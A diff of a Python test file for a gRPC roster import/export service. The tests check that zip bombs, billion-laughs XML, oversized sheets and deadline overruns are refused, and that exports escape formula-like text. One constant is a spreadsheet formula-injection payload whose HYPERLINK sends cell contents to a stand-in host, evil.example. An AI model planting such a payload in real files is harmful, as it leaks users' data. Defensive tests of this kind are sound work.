@@ -1,20 +1,26 @@
 """Rosters through the gRPC ImportRoster and ExportRoster calls, against the
-demo district on PostgreSQL: round trips change nothing, and a file with any
-bad row stores nothing and names every bad row."""
+demo district on PostgreSQL: round trips change nothing, a file with any bad
+row stores nothing and names every bad row, hostile or oversized files are
+refused whole, an import past its deadline stores nothing, and exports never
+carry a formula."""
 
 from __future__ import annotations
 
 import csv
 import io
+import queue
+import time
 from typing import Any
 
 import grpc
 import pytest
 from openpyxl import load_workbook
 
+from kit.errors import DeadlineExceeded
+from kit.grpc_server import remaining_deadline
 from liaison.common.v1.envelope_pb2 import PageRequest
 from liaison.registry.v1 import registry_pb2 as pb
-from registry import models
+from registry import loading, models
 
 pytestmark = pytest.mark.postgres
 
@@ -377,3 +383,164 @@ def test_a_positions_roster_checks_station_heads(api: Any, rpc_fails: Any) -> No
     assert failure.code == grpc.StatusCode.INVALID_ARGUMENT
     assert [(row, column) for row, column, _ in import_errors(failure)] == [(2, "代表编号")]
     assert api.count(models.Position) == before
+
+
+# ---------------------------------------------------------------- hostile files
+
+
+def refused(api: Any, rpc_fails: Any, content: bytes, fmt: str) -> str:
+    """Send a file that must be refused whole; what the refusal says. Nothing is stored."""
+    before = api.count(models.Deputy)
+    mark = api.outbox_mark()
+    failure = rpc_fails(
+        api.stub.ImportRoster,
+        pb.ImportRosterRequest(kind=pb.ROSTER_KIND_DEPUTIES, format=FORMATS[fmt], content=content),
+    )
+    assert failure.code == grpc.StatusCode.INVALID_ARGUMENT
+    (violation,) = failure.violations
+    assert violation.field == "content"
+    assert failure.message == f"content: {violation.description}; nothing was imported"
+    assert api.count(models.Deputy) == before
+    assert api.events_since(mark) == []
+    return str(violation.description)
+
+
+def test_the_xfd1048576_bomb_is_refused(api: Any, rpc_fails: Any, hostile: Any) -> None:
+    reason = refused(api, rpc_fails, hostile.xfd_bomb(), "xlsx")
+    assert "row 1048576, column 16384 (XFD1048576:XFD1048576)" in reason
+    assert "the limit is 20000 rows and 64 columns" in reason
+
+
+def test_a_zip_bomb_is_refused(api: Any, rpc_fails: Any, hostile: Any) -> None:
+    workbook = export(api, "deputies", "xlsx", street_id=street_id(api, "linhe")).content
+    bomb = hostile.with_large_part(workbook, "xl/media/image1.bin", 256 * 1024 * 1024)
+    assert len(bomb) < 512 * 1024
+    reason = refused(api, rpc_fails, bomb, "xlsx")
+    assert reason == (
+        "the workbook's part xl/media/image1.bin unzips to 256.0 MiB; the limit is 40.0 MiB a part"
+    )
+
+
+def test_billion_laughs_is_refused(api: Any, rpc_fails: Any, hostile: Any) -> None:
+    workbook = export(api, "deputies", "xlsx", street_id=street_id(api, "linhe")).content
+    reason = refused(api, rpc_fails, hostile.billion_laughs(workbook), "xlsx")
+    assert reason == "the workbook's XML declares entities, which a roster never needs"
+
+
+def test_a_file_past_the_row_cap_is_refused(api: Any, rpc_fails: Any) -> None:
+    header = read_csv(export(api, "deputies", "csv").content)[0]
+    upload = [header, *([f"D{n:05d}"] for n in range(20_000))]
+    reason = refused(api, rpc_fails, write_csv(upload), "csv")
+    assert reason == "the file goes past row 20000; the limit is 20000 rows"
+
+
+def test_a_file_past_the_column_cap_is_refused(api: Any, rpc_fails: Any) -> None:
+    table = read_csv(export(api, "deputies", "csv", street_id=street_id(api, "linhe")).content)
+    wide = [row + [""] * (64 - len(row)) + ["多余"] for row in table]
+    reason = refused(api, rpc_fails, write_csv(wide), "csv")
+    assert reason == "row 1 has a value in column 65; the limit is 64 columns"
+
+
+def test_a_file_past_the_byte_cap_is_refused(api: Any, rpc_fails: Any) -> None:
+    exported = export(api, "deputies", "csv").content
+    padded = exported + b"\n" * (16 * 1024 * 1024 + 1 - len(exported))
+    reason = refused(api, rpc_fails, padded, "csv")
+    assert reason == "the file is 16777217 bytes; the limit is 16777216 bytes"
+
+
+# ---------------------------------------------------------------- deadline
+
+
+def test_an_import_that_outlives_its_deadline_stops_and_stores_nothing(
+    api: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    linhe = street_id(api, "linhe")
+    table = read_csv(export(api, "deputies", "csv", street_id=linhe).content)
+    header, rows = table[0], table[1:]
+    assert len(rows) >= 3
+    rows[0][header.index("职业")] = "超时前改过的职业"  # an update that must not stay
+    new = new_deputy_row(header, rows[0], "N931", rows[0][header.index("联络站")])
+    upload = [header, rows[0], new, *rows[1:]]  # rows 2 and 3 are written before row 4
+    held_code = rows[1][0]  # row 4
+
+    kind, build = loading.BY_NAME["deputies"]
+
+    def build_after_the_deadline(values: dict[str, Any], refs: Any) -> Any:
+        if values["code"] == held_code:
+            # Hold this row until the caller's deadline has passed.
+            give_up = time.monotonic() + 30
+            while (remaining_deadline() or 0) > 0 and time.monotonic() < give_up:
+                time.sleep(0.01)
+        return build(values, refs)
+
+    monkeypatch.setitem(loading.BY_NAME, "deputies", (kind, build_after_the_deadline))
+    # The handler's own outcome, known once its transaction is over.
+    outcome: queue.Queue[object] = queue.Queue()
+    import_roster = loading.Loader.import_roster
+
+    def import_and_report(self: loading.Loader, *args: Any) -> tuple[int, int]:
+        try:
+            result = import_roster(self, *args)
+        except Exception as error:
+            outcome.put(error)
+            raise
+        outcome.put(result)
+        return result
+
+    monkeypatch.setattr(loading.Loader, "import_roster", import_and_report)
+
+    before = api.count(models.Deputy)
+    mark = api.outbox_mark()
+    with pytest.raises(grpc.RpcError) as caught:
+        api.stub.ImportRoster(
+            pb.ImportRosterRequest(
+                kind=pb.ROSTER_KIND_DEPUTIES, format=pb.ROSTER_FORMAT_CSV, content=write_csv(upload)
+            ),
+            timeout=2,
+        )
+    assert caught.value.code() == grpc.StatusCode.DEADLINE_EXCEEDED
+    stopped = outcome.get(timeout=30)
+    assert isinstance(stopped, DeadlineExceeded), stopped
+    assert stopped.message == "the call's deadline passed while importing row 5 of the roster"
+    assert api.count(models.Deputy) == before
+    assert api.events_since(mark) == []
+    assert api.stub.ListDeputies(pb.ListDeputiesRequest(query="N931")).page.total_size == 0
+    first = api.stub.ListDeputies(pb.ListDeputiesRequest(query=rows[0][0])).deputies[0]
+    assert first.profession != "超时前改过的职业"
+
+
+# ---------------------------------------------------------------- formulas
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?c="&M2&N2,"详情")'
+
+
+def test_exports_write_formula_like_text_as_text_and_round_trip(api: Any) -> None:
+    """A biography that is a formula and a phone with its country code: text
+    in both formats, and each export re-imports without a change."""
+    linhe = street_id(api, "linhe")
+    table = read_csv(export(api, "deputies", "csv", street_id=linhe).content)
+    header, rows = table[0], table[1:]
+    code = rows[0][0]
+    biography, phone = header.index("简介"), header.index("电话")
+    rows[0][biography] = HYPERLINK
+    rows[0][phone] = "+8613812345678"
+    # As someone might type them: no leading quote.
+    assert import_(api, "deputies", write_csv([header, *rows])).created == 0
+
+    as_csv = export(api, "deputies", "csv", street_id=linhe).content
+    (row,) = [r for r in read_csv(as_csv)[1:] if r[0] == code]
+    assert (row[biography], row[phone]) == ("'" + HYPERLINK, "'+8613812345678")
+
+    as_xlsx = export(api, "deputies", "xlsx", street_id=linhe).content
+    sheet = load_workbook(io.BytesIO(as_xlsx)).worksheets[0]
+    (cells,) = [r for r in sheet.iter_rows(min_row=2) if r[0].value == code]
+    assert (cells[biography].data_type, cells[biography].value) == ("s", HYPERLINK)
+    assert (cells[phone].data_type, cells[phone].value) == ("s", "+8613812345678")
+
+    for fmt, content in (("csv", as_csv), ("xlsx", as_xlsx)):
+        mark = api.outbox_mark()
+        result = import_(api, "deputies", content, fmt)
+        assert (result.created, result.updated) == (0, len(rows))
+        assert api.events_since(mark) == [], f"the {fmt} export did not round-trip exactly"
+    (deputy,) = api.stub.ListDeputies(pb.ListDeputiesRequest(query=code)).deputies
+    assert deputy.biography == HYPERLINK
